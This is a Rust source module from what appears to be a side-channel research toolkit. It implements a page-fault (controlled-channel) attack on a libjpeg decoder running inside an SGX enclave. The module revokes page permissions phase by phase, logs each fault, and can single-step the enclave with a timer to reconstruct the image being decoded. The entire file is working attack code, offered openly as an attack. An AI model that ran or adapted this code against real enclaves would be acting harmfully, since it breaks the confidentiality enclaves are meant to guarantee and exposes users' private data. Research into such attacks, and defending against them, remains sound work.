// SPDX-License-Identifier: Apache-2.0

//! Page-fault attack on the libjpeg decoder.
//!
//! Only the pages that lead out of the current decoder phase are revoked.
//! Each fault advances the phase machine, revokes the pages of the next
//! possible phases and restores the faulting page, so the decoder runs on
//! until it leaves the phase again.
//!
//! Optionally the decoder is single-stepped at the same time: the tracer
//! then re-revokes its pages every few steps, so repeated accesses to one
//! page fault again instead of being coalesced.

use crate::aep::{InterruptEvent, DISPATCHER};
use crate::apic::TimerControl;
use crate::config::Config;
use crate::enclave::Info;
use crate::error::{Error, Result};
use crate::payload::{self, Payload};
use crate::pf::{self, Mprotect, Protect, Tracer};
use crate::step::{Cadence, Hook, Session, Stepper};
use crate::trace::phase::{Phase, PhaseMachine};
use crate::trace::Collector;

use std::sync::Arc;

use log::{debug, info, warn};
use primordial::Page;
use spin::Mutex;

/// Where the attack takes its observations from.
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
pub enum Mode {
    /// Page faults on the decoder's code and data pages.
    Faults,
    /// Explicit leakage through the payload's instrumentation ocalls.
    Ocalls,
}

pub struct Attack<P: Protect> {
    machine: PhaseMachine,
    tracer: Tracer<P>,
    collector: Collector,
    released: bool,
}

impl<P: Protect> Attack<P> {
    pub fn new(config: &Config, protect: P, collector: Collector) -> Self {
        let aexnotify = config.tracer.aexnotify;
        Self {
            machine: PhaseMachine::new(&config.phases, aexnotify),
            tracer: Tracer::new(protect, config.tracer.working_set()),
            collector,
            released: false,
        }
    }

    /// Revokes the pages that start the decoder.
    pub fn arm(&mut self) -> Result<()> {
        self.tracer.track(self.machine.next_pages())
    }

    pub fn on_fault(&mut self, page: usize) -> Result<()> {
        if self.released {
            return self.tracer.protect().restore(page, 1);
        }

        self.collector.on_fault((page * Page::SIZE) as u64);
        self.machine.on_page(page, &mut self.collector);
        self.tracer.track(self.machine.next_pages())?;
        self.tracer.on_fault(page)
    }

    /// Stops tracing and restores every page that may have been revoked.
    pub fn release(&mut self) -> Result<()> {
        self.released = true;
        for range in self.machine.pages().all() {
            for page in range {
                self.tracer.protect().restore(page, 1)?;
            }
        }
        Ok(())
    }

    pub fn phase(&self) -> Phase {
        self.machine.phase()
    }

    pub fn faults(&self) -> u64 {
        self.tracer.faults()
    }

    pub fn collector(&self) -> &Collector {
        &self.collector
    }

    pub fn into_collector(self) -> Collector {
        self.collector
    }

    /// The collector, or the first error hit while re-arming the tracer.
    pub fn finish(mut self) -> Result<Collector> {
        self.tracer.finish()?;
        Ok(self.collector)
    }
}

impl<P: Protect + Send + 'static> Attack<P> {
    /// A stepper re-revoking `attack`'s pages every `cadence` steps.
    pub fn stepper<T: TimerControl>(
        attack: &Arc<Mutex<Self>>,
        timer: T,
        ticks: u32,
        aep: u64,
        cadence: Cadence,
    ) -> Stepper<T> {
        Stepper::new(timer, ticks, aep)
            .cadence(cadence)
            .hook(attack.clone())
    }
}

impl<P: Protect + Send> Hook for Attack<P> {
    fn on_step(&mut self, step: u64, event: &InterruptEvent) {
        if !self.released {
            self.tracer.on_step(step, event);
        }
    }
}

/// The timer single-stepping the decoder during a fault trace.
pub struct Stepping {
    pub timer: Box<dyn TimerControl + Send>,
    pub ticks: u32,
    pub aep: u64,
}

/// Decodes `image` in the enclave while reconstructing it into `collector`.
///
/// With `stepping`, the page-fault trace is single-stepped as well.
#[allow(clippy::too_many_arguments)]
pub fn run(
    payload: &mut impl Payload,
    info: &Info,
    mode: Mode,
    config: &Config,
    image: &[u8],
    max_size: usize,
    collector: Collector,
    stepping: Option<Stepping>,
) -> Result<Collector> {
    info!("attacking enclave {:#x} via {:?}", info.id, mode);

    match (mode, stepping) {
        (Mode::Ocalls, Some(_)) => Err(Error::Config(
            "single-stepping needs the page-fault trace".into(),
        )),
        (Mode::Ocalls, None) => payload::decode_instrumented(payload, image, max_size, collector),
        (Mode::Faults, stepping) => faults(payload, info, config, image, max_size, collector, stepping),
    }
}

fn faults(
    payload: &mut impl Payload,
    info: &Info,
    config: &Config,
    image: &[u8],
    max_size: usize,
    collector: Collector,
    stepping: Option<Stepping>,
) -> Result<Collector> {
    payload.load_image(image, max_size)?;

    let attack = Attack::new(config, Mprotect::new(info.base()), collector);
    let attack = Arc::new(Mutex::new(attack));

    let session = match stepping {
        Some(Stepping { timer, ticks, aep }) => {
            let cadence = Cadence::new(config.tracer.cadence).unwrap_or_default();
            let stepper = Attack::stepper(&attack, timer, ticks, aep, cadence);
            match Session::start(&mut DISPATCHER.lock(), stepper) {
                Ok(session) => Some(session),
                Err(e) => {
                    payload.free_image()?;
                    return Err(e);
                }
            }
        }
        None => None,
    };

    let traced = trace(payload, info, &attack);
    let stepped = session.map(|session| session.stop(&mut DISPATCHER.lock()));
    let freed = payload.free_image();

    traced?;
    freed?;
    match stepped {
        Some(Ok(report)) => info!(
            "{} steps, {} zero-steps, {} other exits",
            report.steps, report.zero_steps, report.other
        ),
        Some(Err(e)) if !e.is_fatal() => warn!("{}", e),
        Some(Err(e)) => return Err(e),
        None => {}
    }

    let attack = Arc::try_unwrap(attack)
        .map_err(|_| Error::State("fault handler still holds the attack"))?
        .into_inner();

    debug!("{} faults, final phase {:?}", attack.faults(), attack.phase());
    attack.finish()
}

/// Revokes the decoder's pages for the duration of one decode.
fn trace(
    payload: &mut impl Payload,
    info: &Info,
    attack: &Arc<Mutex<Attack<Mprotect>>>,
) -> Result<usize> {
    let armed = attack.lock().arm();

    let shared = attack.clone();
    let decoded = armed
        .and_then(|()| {
            pf::register_fault_handler(info.base(), move |page| match shared.try_lock() {
                Some(mut attack) => attack.on_fault(page),
                None => Err(Error::State("fault while the attack is locked")),
            })
        })
        .and_then(|()| payload.decompress_loaded());

    let released = attack.lock().release();
    pf::clear_fault_handler();

    let size = decoded?;
    released?;
    Ok(size)
}
